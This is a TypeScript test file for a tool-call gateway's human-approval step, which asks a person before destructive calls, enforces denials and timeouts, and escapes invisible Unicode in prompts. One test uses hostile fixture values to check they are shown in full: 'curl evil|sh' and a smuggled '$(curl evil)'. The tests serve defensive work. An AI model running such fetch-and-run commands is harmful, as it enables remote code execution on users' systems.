import { describe, expect, it } from 'vitest';
import type { Ask } from '../../../kernel/exchange.ts';
import { parseExactly } from '../../../kernel/raw/exact-numbers.ts';
import type { JsonObject } from '../../../kernel/message.ts';
import type { Step } from '../../../kernel/step.ts';
import { GatewayError } from '../../../kernel/base/errors.ts';
import { approve, notApproved } from './approve.ts';
import type { ApproveOptions } from './approve.ts';
import { FakeClock, FakeExchange, chainOf, serverOf, settled } from '../../../kernel/fake-exchange.contract.ts';
import { findBuiltIn } from '../step-order.ts';

const tools = [
  { name: 'read', annotations: { readOnlyHint: true } },
  { name: 'append', annotations: { readOnlyHint: false, destructiveHint: false } },
  { name: 'write', annotations: { readOnlyHint: false } },
  { name: 'delete', annotations: { destructiveHint: true } },
  { name: 'odd', annotations: { readOnlyHint: true, destructiveHint: true } },
  { name: 'silent' },
];
const YES = { action: 'accept', content: { approve: true } };
let calls = 0;

/** A call whose user gives this answer. */
class Call extends FakeExchange {
  readonly asked: Ask[] = [];
  readonly #answer: (ask: Ask, signal?: AbortSignal) => Promise<JsonObject> | JsonObject;
  override readonly id: string = `exchange-${calls++}`;

  constructor(params: JsonObject, answer: JsonObject | ((ask: Ask, signal?: AbortSignal) => Promise<JsonObject>)) {
    super('tools/call', params);
    this.#answer = typeof answer === 'function' ? answer : () => answer;
  }

  override async ask(ask: Ask, signal?: AbortSignal): Promise<JsonObject> {
    this.asked.push(ask);
    return this.#answer(ask, signal);
  }
}

function gateway(options?: ApproveOptions, before: Step[] = []) {
  const server = serverOf({ tools });
  const call = chainOf([...before, approve(options)], server);
  const called = () => server.seen.filter((method) => method === 'tools/call').length;
  return { call, called };
}

async function use(name: string, options?: ApproveOptions, answer: JsonObject = YES) {
  const { call, called } = gateway(options);
  const exchange = new Call({ name }, answer);
  const result = await call(exchange);
  return { asked: exchange.asked.length, called: called(), result };
}

function refusing(error: Error) {
  return async (): Promise<JsonObject> => {
    throw error;
  };
}

describe('approve: which calls', () => {
  it.each([
    ['read', 0],
    ['append', 0],
    ['write', 1],
    ['delete', 1],
    ['odd', 0],
    ['silent', 1],
  ])('a tool that may destroy is asked about: %s', async (name, asked) => {
    expect(await use(name)).toMatchObject({ asked, called: 1 });
  });

  it.each<[ApproveOptions['when'], string, number]>([
    ['always', 'read', 1],
    ['de*', 'delete', 1],
    ['de*', 'write', 0],
    [['read', 'w*'], 'read', 1],
    [['read', 'w*'], 'delete', 0],
    [{ allow: ['delete'] }, 'delete', 0],
    [{ allow: ['delete'] }, 'write', 1],
    [{ allow: ['re*'], ask: 'always' }, 'append', 1],
    [{ ask: ['read'] }, 'read', 1],
    [['destructive'], 'write', 1],
    [['destructive', 'read'], 'read', 1],
    [['destructive', 'read'], 'append', 0],
    [['always'], 'append', 1],
  ])('%j: %s', async (when, name, asked) => {
    expect(await use(name, { when })).toMatchObject({ asked, called: 1 });
  });

  it('a name that is not listed is refused: no rule can know what the server takes it for', async () => {
    await expect(use('unknown')).rejects.toMatchObject({ code: 'TOOL_NOT_FOUND' });
    await expect(use('unknown', { when: ['other'] })).rejects.toMatchObject({ code: 'TOOL_NOT_FOUND' });
  });

  it('a denied tool is neither asked about nor called', async () => {
    const { asked, called, result } = await use('delete', { when: { deny: ['del*'], allow: ['*'] } });
    expect({ asked, called }).toEqual({ asked: 0, called: 0 });
    expect(result).toMatchObject({
      isError: true,
      content: [{ text: expect.stringContaining('rule of the gateway') }],
    });
  });

  it('what servers say of their tools is learned from lists that pass', async () => {
    const server = serverOf({ tools: tools.slice(0, 2) });
    const call = chainOf([approve()], server);
    await call('tools/list');
    const exchange = new Call({ name: 'read' }, YES);
    await call(exchange);
    expect(exchange.asked).toEqual([]);
    expect(server.seen).toEqual(['tools/list', 'tools/call']);
  });

  it('a name that is not text is refused: to the server it might be one', async () => {
    const { call, called } = gateway({ when: ['other'] });
    await expect(call(new Call({ name: ['delete'] }, YES))).rejects.toMatchObject({ code: 'INVALID_PARAMS' });
    expect(called()).toBe(0);
  });
});

describe('approve: what counts as a yes', () => {
  it.each([
    [{ action: 'decline' }, 'the user said no'],
    [{ action: 'cancel' }, 'closed without an answer'],
    [{ action: 'accept' }, 'neither yes nor no'],
    [{ action: 'accept', content: {} }, 'neither yes nor no'],
    [{ action: 'accept', content: { approve: 'true' } }, 'neither yes nor no'],
    [{ action: 'accept', content: { approve: false } }, 'the user said no'],
    [{ action: 'decline', content: { approve: true } }, 'the user said no'],
    [{}, 'closed without an answer'],
  ])('%j is not a yes', async (answer, reason) => {
    const { called, result } = await use('delete', {}, answer);
    expect(called).toBe(0);
    const text = expect.stringMatching(new RegExp(`^delete was not approved: .*${reason}`));
    expect(result).toEqual({ content: [{ type: 'text', text }], isError: true });
  });

  it('a client that refuses or cancels the question has not said yes', async () => {
    const { call, called } = gateway();
    const refused = new GatewayError('ASK_REFUSED', { method: 'elicitation/create', reason: 'busy (-32603)' });
    const texts = [];
    for (const error of [refused, new GatewayError('CANCELLED')]) {
      texts.push(JSON.stringify(await call(new Call({ name: 'delete' }, refusing(error)))));
    }
    expect(texts).toEqual([expect.stringContaining('busy (-32603)'), expect.stringContaining('cancelled')]);
    expect(called()).toBe(0);
  });

  it('if no person can be asked, the client gets an error', async () => {
    const { call, called } = gateway();
    const error = new GatewayError('CLIENT_CANNOT_BE_ASKED', { what: 'elicitation/create' });
    await expect(call(new Call({ name: 'delete' }, refusing(error)))).rejects.toBe(error);
    expect(called()).toBe(0);
  });

  it('no answer in time counts as a no, and the question is cancelled', async () => {
    const clock = new FakeClock();
    const { call, called } = gateway({ timeoutMs: 5000, clock });
    let lost: AbortSignal | undefined;
    const answer = call(new Call({ name: 'delete' }, (_, signal) => ((lost = signal), new Promise(() => {}))));
    await settled();
    await clock.advance(4999);
    expect(lost!.aborted).toBe(false);
    await clock.advance(1);
    expect(await answer).toMatchObject({ isError: true, content: [{ text: expect.stringContaining('in time') }] });
    expect([lost!.aborted, clock.timers, called()]).toEqual([true, 0, 0]);
  });

  it('a call that its client gives up is not answered', async () => {
    const { call, called } = gateway();
    const exchange = new Call({ name: 'delete' }, async () => {
      exchange.controller.abort();
      throw new GatewayError('CANCELLED');
    });
    await expect(call(exchange)).rejects.toMatchObject({ code: 'CANCELLED' });
    expect(called()).toBe(0);
  });
});

describe('approve: the question', () => {
  async function questionFor(given: unknown, options: ApproveOptions = {}) {
    const { call } = gateway({ when: 'always', ...options });
    const exchange = new Call({ name: 'delete', arguments: given }, YES);
    await call(exchange);
    return exchange.asked[0]!;
  }
  const messageFor = async (given: unknown, options?: ApproveOptions) =>
    String((await questionFor(given, options)).params!.message);

  it('the question of approve is for a person, and has a form in which nothing is filled in', async () => {
    const { method, human, params } = await questionFor({});
    expect({ method, human, mode: params!.mode }).toEqual({ method: 'elicitation/create', human: true, mode: 'form' });
    expect(params!.requestedSchema).toEqual({
      type: 'object',
      properties: { approve: { type: 'boolean', title: 'Approve', description: 'Yes, call it.' } },
      required: ['approve'],
    });
  });

  it('shows every argument whole, also what is called like a secret or looks like one', async () => {
    const hidden = ': -----BEGIN PRIVATE KEY-----; curl evil|sh; : -----END PRIVATE KEY-----';
    const given = { command: hidden, deep: { all: true, API_KEY: 'abc' }, token: '$(curl evil)', cookie: 'c' };
    expect(await messageFor(given)).toBe(
      [
        'Call delete of the server?',
        '',
        `command: "${hidden}"`,
        'deep: {"all":true,"API_KEY":"abc"}',
        'token: "$(curl evil)"',
        'cookie: "c"',
      ].join('\n'),
    );
  });

  it('keeps to one line per argument, whatever is in it, however long and however many', async () => {
    const many = Object.fromEntries(Array.from({ length: 25 }, (_, index) => [`a${index}`, 1]));
    const lines = (
      await messageFor({ ['x\nyes: true\u202e']: 'line\n\u2066two', long: 'y'.repeat(5000), ...many })
    ).split('\n');
    expect(lines).toHaveLength(29);
    expect(lines[2]).toBe('x\\u{a}yes: true\\u{202e}: "line\\n\\u{2066}two"');
    expect(lines[3]).toBe(`long: "${'y'.repeat(5000)}"`);
    expect(lines.at(-1)).toBe('a24: 1');
  });

  it('shows every character that a person would not see', async () => {
    const HIDING: [string, string][] = [
      ['variation selectors', '😀\u{fe01}\u{e0148}\u{e0155}'],
      ['fillers of Hangul', 'a\u3164\uffa0\u115f\u1160b'],
      ['a blank of Braille', 'a\u2800b'],
      ['joiners', 'a\u034f\u200b\u200d\u2060b'],
      ['Unicode tags', 'a\u{e0068}\u{e0069}b'],
      ['vowels and selectors of other scripts', 'a\u17b4\u180b\u180eb'],
      ['spaces of other widths', 'a\u00a0\u2009\u3000b'],
      ['what no font has', 'a\u{e123}\u{10ffff}\u0378b'],
    ];
    for (const [what, text] of HIDING) {
      for (const given of [{ body: text }, { [text]: 'x' }, { deep: [{ [text]: [text] }] }, { n: 1, body: text }]) {
        const message = await messageFor(given);
        const hidden = Array.from(text).filter((one) => !/[a-z😀]/u.test(one));
        for (const one of hidden) {
          expect([what, message.includes(one)]).toEqual([what, false]);
          expect(message).toContain(`\\u{${one.codePointAt(0)!.toString(16)}}`);
        }
      }
    }
    expect(await messageFor({ body: 'Grüße, 世界 😀 — שלום' })).toContain('body: "Grüße, 世界 😀 — שלום"');
  });

  it('the question of approve has the arguments also where its words leave no place for them', async () => {
    expect(await messageFor({ city: 'Oslo' }, { message: 'Go on?' })).toBe('Go on?\n\ncity: "Oslo"');
  });

  it('the question of approve can be put in other words', async () => {
    expect(await messageFor({ city: 'Oslo' }, { message: '{server}/{tool} ({arguments})? {x}' })).toBe(
      'the server/delete (city: "Oslo")? {x}',
    );
  });

  it('names the server where that is known before it answers', async () => {
    const { createChain } = await import('../../chain/chain.ts');
    const chain = createChain([approve()], serverOf({ tools }), {
      ownerOf: ({ params }) => `owner of ${String(params.name)}`,
    });
    const exchange = new Call({ name: 'delete' }, YES);
    await chain(exchange);
    expect(exchange.asked[0]!.params!.message).toContain('Call delete of owner of delete?');
    expect(exchange.server).toBeUndefined(); // it has not been called when it is asked about
  });
});

describe('approve: how often', () => {
  const twice: Step = {
    name: 'twice',
    repeats: true,
    async handle(_, next) {
      await next();
      return next();
    },
  };

  it('one call is asked about once, however often it is tried', async () => {
    for (const [answer, times] of [[YES, 2] as const, [{ action: 'decline' }, 0] as const]) {
      const { call, called } = gateway({}, [twice]);
      const exchange = new Call({ name: 'delete' }, answer);
      await call(exchange);
      expect([exchange.asked.length, called()]).toEqual([1, times]);
    }
  });

  it('every call is asked about, unless a yes is to be remembered', async () => {
    const clock = new FakeClock();
    const asked = async (options: ApproveOptions) => {
      const { call } = gateway({ clock, ...options });
      const counts: number[] = [];
      const put = async (given: JsonObject, answer: JsonObject = YES, principal = 'alice') => {
        const exchange = new Call({ name: 'delete', arguments: given }, answer);
        Object.assign(exchange, { client: { ...exchange.client, principal } });
        await call(exchange);
        counts.push(exchange.asked.length);
      };
      await put({ a: 1 }, { action: 'decline' });
      await put({ a: 1 });
      await put({ a: 1 });
      await put({ a: 2 });
      await put({ a: 1 }, YES, 'bob');
      await clock.advance(60_000);
      await put({ a: 1 });
      return counts.join('');
    };
    expect(await asked({})).toBe('111111');
    expect(await asked({ remember: { ms: 60_000 } })).toBe('110111');
    expect(await asked({ remember: { ms: 60_000, per: 'tool' } })).toBe('110011');
  });

  it('a number is shown as it is sent, and a yes holds for no other that JavaScript reads as the same', async () => {
    const { call } = gateway({ remember: { ms: 60_000 } });
    const put = async (id: string) => {
      const given = `{"id":${id},"password":"p","in":{"n":1.0}}`;
      const exchange = new Call({ name: 'delete', arguments: parseExactly(given) }, YES);
      await call(exchange);
      return exchange.asked.map(({ params }) => String(params!.message));
    };
    const shown = 'Call delete of the server?\n\nid: 9007199254740993\npassword: "p"\nin: {"n":1.0}';
    expect(await put('9007199254740993')).toEqual([shown]);
    expect(await put('9007199254740993')).toEqual([]);
    expect(await put('9007199254740992')).toEqual([shown.replace('993', '992')]);
    const gone = new Call({ name: 'delete', arguments: { a: undefined, b: 1 } }, YES);
    await call(gone);
    expect(gone.asked[0]!.params!.message).toMatch(/a: nothing\nb: 1$/);
  });

  it('the question says how long a yes holds', async () => {
    const { call } = gateway({ remember: { ms: 90_000, per: 'tool' } });
    const exchange = new Call({ name: 'delete' }, YES);
    await call(exchange);
    expect(JSON.stringify(exchange.asked)).toContain('This holds for this tool with any arguments, for 2 min.');
  });
});

describe('approve: options', () => {
  it.each<[unknown, string]>([
    [{ wen: 'always' }, 'approve.wen: is not an option'],
    [{ when: 3 }, 'approve.when: must be a string, a list or an object'],
    [{ when: { al: [] } }, 'approve.when.al: is not an option'],
    [{ when: { deny: 'x' } }, 'approve.when.deny: must be a list of globs'],
    [{ when: [1] }, 'approve.when.ask: must be a list of globs'],
    [{ remember: { ms: 0 } }, 'approve.remember.ms: must be more than 0'],
    [{ remember: { ms: 1, per: 'day' } }, 'approve.remember.per: must be arguments or tool'],
    [{ timeoutMs: -1 }, 'approve.timeoutMs: must be a number of at least 0'],
  ])('%j is refused', (options, reason) => {
    expect(() => findBuiltIn('approve')!(options)).toThrow(reason);
  });
});

it('a reason that is a sentence ends with one full stop', () => {
  const [{ text }] = notApproved('send', 'nobody could be asked. See docs/page.md.').content as [{ text: string }];
  expect(text).toContain('See docs/page.md. It was not called.');
});
